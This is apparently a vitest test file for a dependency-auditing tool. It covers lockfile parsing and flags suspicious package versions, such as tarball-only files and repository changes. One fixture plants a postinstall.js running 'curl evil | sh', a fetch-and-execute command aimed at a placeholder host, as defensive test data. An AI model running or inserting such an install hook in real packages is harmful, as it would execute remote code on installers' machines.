import { describe, it, expect, beforeAll, afterAll, vi } from "vitest";
import { execFile, execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tmp } from "./tmp.js";
import { FixtureServer, publishNpm, sri } from "./registry-fixture.js";
import { Fetcher } from "../src/fetch/fetcher.js";
import { parseLockfile, newPackages, runDeps, renderDeps } from "../src/deps/index.js";

const CLI = join(import.meta.dirname, "..", "dist", "cli", "main.js");
let server: FixtureServer;
let dir: string;
let mirror: string;
const files = (name: string, v: string) => ({ "package.json": JSON.stringify({ name, version: v }) + "\n", "index.js": `module.exports = "${name}";\n` });

/** A package-lock.json v3 naming these packages (integrity taken from the fixture server's tarballs). */
const lockV3 = (pkgs: Array<{ name: string; version: string; integrity?: string; nested?: string; extra?: Record<string, unknown> }>) =>
  JSON.stringify(
    {
      name: "app",
      version: "1.0.0",
      lockfileVersion: 3,
      requires: true,
      packages: {
        "": { name: "app", version: "1.0.0" },
        ...Object.fromEntries(
          pkgs.map((p) => [`${p.nested ? `node_modules/${p.nested}/` : ""}node_modules/${p.name}`, { version: p.version, resolved: `${server.base}/${p.name}/-/${p.name}-${p.version}.tgz`, ...(p.integrity ? { integrity: p.integrity } : {}), ...p.extra }]),
        ),
      },
    },
    null,
    2,
  );

const integ = new Map<string, string>();

beforeAll(async () => {
  server = await new FixtureServer().start();
  dir = tmp();
  mirror = join(dir, "mirror");
  mkdirSync(mirror, { recursive: true });
  for (const [name, v] of [["alpha", "1.0.0"], ["alpha", "1.1.0"], ["beta", "2.0.0"], ["gamma", "0.1.0"]] as const) {
    const { bytes } = await publishNpm(server, dir, mirror, { name, version: v, git: files(name, v), repoName: name, doc: { repository: `github:acme/${name}` } });
    integ.set(`${name}@${v}`, sri(bytes));
  }
  // delta@1.0.0 ships a file that is not in git.
  const { bytes } = await publishNpm(server, dir, mirror, { name: "delta", version: "1.0.0", git: files("delta", "1.0.0"), tarball: { ...files("delta", "1.0.0"), "postinstall.js": "require('child_process').execSync('curl evil | sh')\n" } });
  integ.set("delta@1.0.0", sri(bytes));
  // omega 1.1.0 points at another repository than 1.0.0 did (and matches it perfectly).
  await publishNpm(server, dir, mirror, { name: "omega", version: "1.0.0", git: files("omega", "1.0.0") });
  await publishNpm(server, dir, mirror, { name: "omega", version: "1.1.0", git: files("omega", "1.1.0"), repoName: "omega-evil", owner: "mallory" });
});
afterAll(async () => server.stop());

const opts = () => ({ registries: { npm: server.base }, mirrorDir: mirror, fetcher: new Fetcher({ retries: 0 }) });

describe("lockfile parsers", () => {
  it("package-lock v3: nested copies, links and git dependencies", () => {
    const text = lockV3([
      { name: "alpha", version: "1.0.0" },
      { name: "alpha", version: "1.1.0", nested: "beta" },
      { name: "ws-pkg", version: "1.0.0", extra: { link: true, resolved: "packages/ws-pkg" } },
      { name: "gitdep", version: "1.0.0", extra: { resolved: "git+ssh://git@github.com/a/b.git#abc" } },
    ]);
    const { kind, packages } = parseLockfile("package-lock.json", text);
    expect(kind).toBe("package-lock");
    expect(packages.map((p) => `${p.name}@${p.version}${p.notFromRegistry ? " (local)" : ""}`)).toEqual(["alpha@1.0.0", "alpha@1.1.0", "ws-pkg@1.0.0 (local)", "gitdep@1.0.0 (local)"]);
  });

  it("package-lock v1 nested dependencies", () => {
    const text = JSON.stringify({ lockfileVersion: 1, dependencies: { a: { version: "1.0.0", resolved: "https://r/a/-/a-1.0.0.tgz", integrity: sri(Buffer.from("a")), dependencies: { b: { version: "2.0.0", resolved: "https://r/b/-/b-2.0.0.tgz" } } } } });
    expect(parseLockfile("package-lock.json", text).packages.map((p) => `${p.name}@${p.version}:${p.digests.length}`)).toEqual(["a@1.0.0:1", "b@2.0.0:0"]);
  });

  it("an unknown YAML tag or directive in a lockfile is parsed without printing a warning", () => {
    const warned = vi.spyOn(process, "emitWarning");
    try {
      const text = `%YAML 1.3\n---\nlockfileVersion: '9.0'\npackages:\n  ms@2.1.3: !!nonexistent\n    resolution: {integrity: ${sri(Buffer.from("ms"))}}\n`;
      expect(parseLockfile("pnpm-lock.yaml", text).packages.map((p) => `${p.name}@${p.version}`)).toEqual(["ms@2.1.3"]);
      const berry = `__metadata:\n  version: 6\n"ms@npm:^2.1.3": !!nonexistent\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3"\n`;
      expect(parseLockfile("yarn.lock", berry).packages.map((p) => `${p.name}@${p.version}`)).toEqual(["ms@2.1.3"]);
      expect(warned).not.toHaveBeenCalled();
    } finally {
      warned.mockRestore();
    }
  });

  it("pnpm-lock.yaml v6 and v9, with peer suffixes and scoped names", () => {
    const v6 = `lockfileVersion: '6.0'\npackages:\n  /ms@2.1.3:\n    resolution: {integrity: ${sri(Buffer.from("ms"))}}\n  /@scope/x@1.0.0(react@18.0.0):\n    resolution: {integrity: ${sri(Buffer.from("x"))}}\n  /local@0.0.1:\n    resolution: {directory: ../local, type: directory}\n`;
    expect(parseLockfile("pnpm-lock.yaml", v6).packages.map((p) => `${p.name}@${p.version}${p.notFromRegistry ? " (local)" : ""}`)).toEqual(["ms@2.1.3", "@scope/x@1.0.0", "local@0.0.1 (local)"]);
    const v9 = `lockfileVersion: '9.0'\npackages:\n  ms@2.1.3:\n    resolution: {integrity: ${sri(Buffer.from("ms"))}}\nsnapshots:\n  ms@2.1.3: {}\n`;
    expect(parseLockfile("pnpm-lock.yaml", v9).packages.map((p) => `${p.name}@${p.version}`)).toEqual(["ms@2.1.3"]);
    const v5 = `lockfileVersion: 5.4\npackages:\n  /ms/2.1.3:\n    resolution: {integrity: ${sri(Buffer.from("ms"))}}\n  /@scope/y/1.0.0_react@18.0.0:\n    resolution: {integrity: ${sri(Buffer.from("y"))}}\n`;
    expect(parseLockfile("pnpm-lock.yaml", v5).packages.map((p) => `${p.name}@${p.version}`)).toEqual(["ms@2.1.3", "@scope/y@1.0.0"]);
  });

  it("yarn.lock classic and berry", () => {
    const classic = `# yarn lockfile v1\n\n\nms@^2.1.1, ms@^2.1.3:\n  version "2.1.3"\n  resolved "https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#abc"\n  integrity ${sri(Buffer.from("ms"))}\n\n"@scope/x@^1.0.0":\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/@scope/x/-/x-1.0.0.tgz"\n`;
    expect(parseLockfile("yarn.lock", classic).packages.map((p) => `${p.name}@${p.version}:${p.digests.length}`)).toEqual(["ms@2.1.3:1", "@scope/x@1.0.0:0"]);
    const berry = `__metadata:\n  version: 8\n\n"ms@npm:^2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3"\n  checksum: 10c0/abc\n\n"app@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "app@workspace:."\n`;
    expect(parseLockfile("yarn.lock", berry).packages.map((p) => `${p.name}@${p.version}${p.notFromRegistry ? " (local)" : ""}`)).toEqual(["ms@2.1.3", "app@0.0.0-use.local (local)"]);
  });

  it("Cargo.lock: registry crates with checksums, path crates listed as local", () => {
    const text = `version = 3\n\n[[package]]\nname = "app"\nversion = "0.1.0"\n\n[[package]]\nname = "serde"\nversion = "1.0.200"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${"ab".repeat(32)}"\n`;
    const p = parseLockfile("Cargo.lock", text).packages;
    expect(p.map((x) => `${x.ecosystem}:${x.name}@${x.version}${x.notFromRegistry ? " (local)" : ""}`)).toEqual(["crate:app@0.1.0 (local)", "crate:serde@1.0.200"]);
    expect(p[1]!.digests).toEqual([{ algorithm: "sha256", hex: "ab".repeat(32), from: "Cargo.lock checksum" }]);
  });

  it("only versions new relative to the base, once each", () => {
    const a = parseLockfile("package-lock.json", lockV3([{ name: "alpha", version: "1.0.0" }, { name: "beta", version: "2.0.0" }])).packages;
    const b = parseLockfile("package-lock.json", lockV3([{ name: "alpha", version: "1.1.0" }, { name: "alpha", version: "1.1.0", nested: "beta" }, { name: "beta", version: "2.0.0" }])).packages;
    expect(newPackages(b, a).map((p) => `${p.name}@${p.version}`)).toEqual(["alpha@1.1.0"]);
    expect(newPackages(b, null).map((p) => `${p.name}@${p.version}`)).toEqual(["alpha@1.1.0", "beta@2.0.0"]);
  });
});

describe("distvet deps", () => {
  it("audits what is new, lists what cannot be audited, aggregates the exit code", async () => {
    const old = join(dir, "old.json");
    const next = join(dir, "package-lock.json");
    writeFileSync(old, lockV3([{ name: "alpha", version: "1.0.0", integrity: integ.get("alpha@1.0.0")! }, { name: "beta", version: "2.0.0", integrity: integ.get("beta@2.0.0")! }]));
    writeFileSync(
      next,
      lockV3([
        { name: "alpha", version: "1.1.0", integrity: integ.get("alpha@1.1.0")! },
        { name: "beta", version: "2.0.0", integrity: integ.get("beta@2.0.0")! },
        { name: "gamma", version: "0.1.0", integrity: integ.get("gamma@0.1.0")! },
        { name: "missing", version: "9.9.9" },
      ]),
    );
    const r = await runDeps({ lockfile: next, old, jobs: 2, ...opts() });
    expect(r.rows.map((x) => `${x.name}@${x.version} ${x.status} ${x.exit}`)).toEqual(["alpha@1.1.0 audited 0", "gamma@0.1.0 audited 0", "missing@9.9.9 error 2"]);
    expect(r.rows[0]!.resolved).toMatch(/^acme\/alpha@[0-9a-f]{12}$/);
    expect(r.rows[2]!.error).toContain("has no missing@9.9.9");
    expect(r.exit).toBe(2);
    const text = renderDeps(r, "text");
    expect(text).toContain("missing@9.9.9: the npm registry has no missing@9.9.9");
    expect(text).toMatch(/alpha\s+1\.1\.0\s+acme\/alpha@[0-9a-f]{12}\s+0\/0\/0\/\d+\s+0/);
  });

  it("a package with a tarball-only script fails the check; SARIF has one run per package", async () => {
    const next = join(dir, "lock-delta.json");
    writeFileSync(next, lockV3([{ name: "delta", version: "1.0.0", integrity: integ.get("delta@1.0.0")! }, { name: "gamma", version: "0.1.0" }]));
    const r = await runDeps({ lockfile: next, jobs: 1, ...opts() });
    expect(r.rows.find((x) => x.name === "delta")!.exit).toBe(1);
    expect(r.exit).toBe(1);
    const sarif = JSON.parse(renderDeps(r, "sarif"));
    expect(sarif.runs.map((x: { automationDetails: { id: string } }) => x.automationDetails.id)).toEqual(["distvet-deps/delta@1.0.0", "distvet-deps/gamma@0.1.0"]);
    expect(sarif.runs[0].results.some((x: { locations: Array<{ physicalLocation: { artifactLocation: { uri: string } } }> }) => x.locations[0]!.physicalLocation.artifactLocation.uri === "postinstall.js")).toBe(true);
  });

  it("a bump whose new version names another repository is flagged medium", async () => {
    const old = join(dir, "old-omega.json");
    const next = join(dir, "new-omega.json");
    writeFileSync(old, lockV3([{ name: "omega", version: "1.0.0" }, { name: "alpha", version: "1.0.0" }]));
    writeFileSync(next, lockV3([{ name: "omega", version: "1.1.0" }, { name: "alpha", version: "1.1.0" }]));
    const r = await runDeps({ lockfile: next, old, ...opts() });
    const omega = r.rows.find((x) => x.name === "omega")!;
    expect(omega.result!.findings.filter((f) => f.rule === "registry-repository-changed").map((f) => f.message)).toEqual([
      "omega 1.0.0 named https://github.com/acme/omega.git; 1.1.0 names https://github.com/mallory/omega-evil.git, and was audited against that repository (which is not shown to hold 1.0.0's published commit)",
    ]);
    expect(omega.result!.findings.find((f) => f.rule === "registry-repository-changed")!.severity).toBe("medium");
    expect(omega.exit).toBe(1);
    // A reviewed move, accepted in the config, is listed as allowed and no longer fails.
    const reviewed = await runDeps({ lockfile: next, old, ...opts(), allow: [{ rule: "registry-repository-changed", path: "npm:omega@1.1.0", reason: "reviewed" }] });
    const o2 = reviewed.rows.find((x) => x.name === "omega")!;
    expect(o2.exit).toBe(0);
    expect(o2.result!.allowed?.map((f) => f.rule)).toEqual(["registry-repository-changed"]);
    // Same repository, new version: nothing to say.
    expect(r.rows.find((x) => x.name === "alpha")!.result!.findings.filter((f) => f.rule === "registry-repository-changed")).toEqual([]);
  });

  it("a moved repository holding the old version's published commit is low; a mere tag name is not enough", async () => {
    // kappa 1.0.0 (gitHead c0) named acme/kappa; 1.1.0 names newhome/kappa, which also has c0.
    const first = await publishNpm(server, dir, mirror, { name: "kappa", version: "1.0.0", git: files("kappa", "1.0.0") });
    server.json("/kappa/1.0.0", { ...first.doc, gitHead: first.commits[0] });
    await publishNpm(server, dir, mirror, { name: "kappa", version: "1.1.0", git: files("kappa", "1.1.0"), owner: "newhome" });
    execFileSync("git", ["--git-dir", join(mirror, "newhome+kappa", "repo"), "fetch", "-q", join(mirror, "acme+kappa", "repo"), "refs/tags/v1.0.0:refs/tags/v1.0.0"]);
    // lambda 1.1.0's new repository only has a tag *named* v1.0.0, and 1.0.0's gitHead is not in it.
    const l1 = await publishNpm(server, dir, mirror, { name: "lambda", version: "1.0.0", git: files("lambda", "1.0.0") });
    server.json("/lambda/1.0.0", { ...l1.doc, gitHead: l1.commits[0] });
    await publishNpm(server, dir, mirror, { name: "lambda", version: "1.1.0", git: files("lambda", "1.1.0"), owner: "mallory" });
    execFileSync("git", ["--git-dir", join(mirror, "mallory+lambda", "repo"), "tag", "v1.0.0", "v1.1.0"]);
    const old = join(dir, "old-kl.json");
    const next = join(dir, "new-kl.json");
    writeFileSync(old, lockV3([{ name: "kappa", version: "1.0.0" }, { name: "lambda", version: "1.0.0" }]));
    writeFileSync(next, lockV3([{ name: "kappa", version: "1.1.0" }, { name: "lambda", version: "1.1.0" }]));
    const r = await runDeps({ lockfile: next, old, ...opts() });
    const sev = (name: string) => r.rows.find((x) => x.name === name)!.result!.findings.filter((x) => x.rule === "registry-repository-changed").map((x) => x.severity);
    expect(sev("kappa")).toEqual(["low"]);
    expect(sev("lambda")).toEqual(["medium"]);
    expect(r.rows.map((x) => `${x.name} ${x.exit}`)).toEqual(["kappa 0", "lambda 1"]);
  });

  it("a lockfile integrity that differs from the registry's tarball is that package's error", async () => {
    const next = join(dir, "lock-bad.json");
    writeFileSync(next, lockV3([{ name: "gamma", version: "0.1.0", integrity: sri(Buffer.from("something else")) }]));
    const r = await runDeps({ lockfile: next, ...opts() });
    expect(r.rows[0]).toMatchObject({ status: "error", exit: 2 });
    expect(r.rows[0]!.error).toContain("the lockfile's integrity");
  });

  it("--base reads the lockfile at a git ref, from the command line", async () => {
    const repo = join(dir, "app");
    mkdirSync(repo);
    const git = (...a: string[]) => execFileSync("git", ["-C", repo, "-c", "user.name=t", "-c", "user.email=t@t", ...a]);
    git("init", "-q", "-b", "main");
    writeFileSync(join(repo, "package-lock.json"), lockV3([{ name: "alpha", version: "1.0.0" }]));
    git("add", ".");
    git("commit", "-qm", "one");
    writeFileSync(join(repo, "package-lock.json"), lockV3([{ name: "alpha", version: "1.1.0" }]));
    const r = await new Promise<{ code: number; out: string; err: string }>((ok) =>
      execFile(process.execPath, [CLI, "deps", "--base", "HEAD", join(repo, "package-lock.json"), "--registry", server.base, "--mirror-dir", mirror, "--format", "json"], (e, out, err) => ok({ code: e ? Number((e as { code?: number }).code) : 0, out, err })),
    );
    expect(r.err).toBe("");
    const j = JSON.parse(r.out);
    expect(j.rows.map((x: { name: string; version: string }) => `${x.name}@${x.version}`)).toEqual(["alpha@1.1.0"]);
    expect(r.code).toBe(0);
  });
});
